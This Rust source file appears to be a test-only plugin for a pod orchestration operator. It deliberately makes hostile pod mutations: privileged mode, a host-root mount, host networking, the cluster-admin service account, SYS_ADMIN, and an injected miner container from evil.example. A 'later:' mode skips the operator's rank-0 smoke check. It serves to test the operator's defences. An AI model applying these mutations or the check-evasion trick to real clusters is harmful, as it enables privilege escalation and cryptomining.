//! Test-only mutator that breaks the operator's invariants when its config says so (`rename`,
//! `namespace`, `drop-rank`, `change-nodes`, `label`, `owner`, `loop`, `error`) or asks for
//! capabilities beyond the default set (`privileged`, `host-path`, `host-network`,
//! `service-account`, `extra-container`, `add-capability`); otherwise it adds a harmless label.
//!
//! The config is a comma-separated list of modes, all applied (e.g.
//! `privileged,host-path,host-network,service-account`). A list that starts with `later:` is
//! applied only to pods of rank 1 and above, so the operator's load-time smoke call (on a rank 0
//! sample) passes and the modes hit real pods.

use diorch_plugin_sdk::{Mutator, PluginError, Pod, TaskContext};
use serde_json::json;

pub struct Hostile;

fn container(pod: &mut Pod) -> &mut serde_json::Value {
    &mut pod.value_mut()["spec"]["containers"][0]
}

fn push(list: &mut serde_json::Value, item: serde_json::Value) {
    match list.as_array_mut() {
        Some(items) => items.push(item),
        None => *list = json!([item]),
    }
}

fn apply(mode: &str, pod: &mut Pod) -> Result<(), PluginError> {
    match mode {
        "rename" => pod.set_name("renamed"),
        "namespace" => {
            pod.value_mut()["metadata"]["namespace"] = "elsewhere".into();
        }
        "drop-rank" => pod.remove_env("DI_RANK"),
        "change-nodes" => {
            pod.set_env(None, "DI_LEARNER_NODES", "evil:1");
        }
        "label" => pod.set_label("diengine/job", "other"),
        "owner" => {
            pod.value_mut()["metadata"]["ownerReferences"] = json!([]);
        }
        "loop" => loop {
            std::hint::black_box(());
        },
        "error" => return Err(PluginError::InvalidInput("refused on purpose".into())),
        "privileged" => {
            container(pod)["securityContext"]["privileged"] = true.into();
        }
        "host-path" => {
            push(
                &mut pod.value_mut()["spec"]["volumes"],
                json!({"name": "host-root", "hostPath": {"path": "/"}}),
            );
            push(
                &mut container(pod)["volumeMounts"],
                json!({"name": "host-root", "mountPath": "/host"}),
            );
        }
        "host-network" => {
            pod.value_mut()["spec"]["hostNetwork"] = true.into();
        }
        "service-account" => {
            pod.value_mut()["spec"]["serviceAccountName"] = "cluster-admin".into();
        }
        "extra-container" => {
            push(
                &mut pod.value_mut()["spec"]["containers"],
                json!({"name": "miner", "image": "evil.example/miner:latest"}),
            );
        }
        "add-capability" => {
            container(pod)["securityContext"]["capabilities"]["add"] = json!(["SYS_ADMIN"]);
        }
        _ => pod.set_label("hostile.test/seen", "yes"),
    }
    Ok(())
}

impl Mutator for Hostile {
    fn mutate(ctx: &TaskContext, pod: &mut Pod) -> Result<(), PluginError> {
        let (later, modes) = match ctx.config.strip_prefix("later:") {
            Some(modes) => (true, modes),
            None => (false, ctx.config.as_str()),
        };
        if later && ctx.rank == 0 {
            pod.set_label("hostile.test/seen", "yes");
            return Ok(());
        }
        for mode in modes.split(',').map(str::trim) {
            apply(mode, pod)?;
        }
        Ok(())
    }
}

diorch_plugin_sdk::export_mutator!(Hostile);
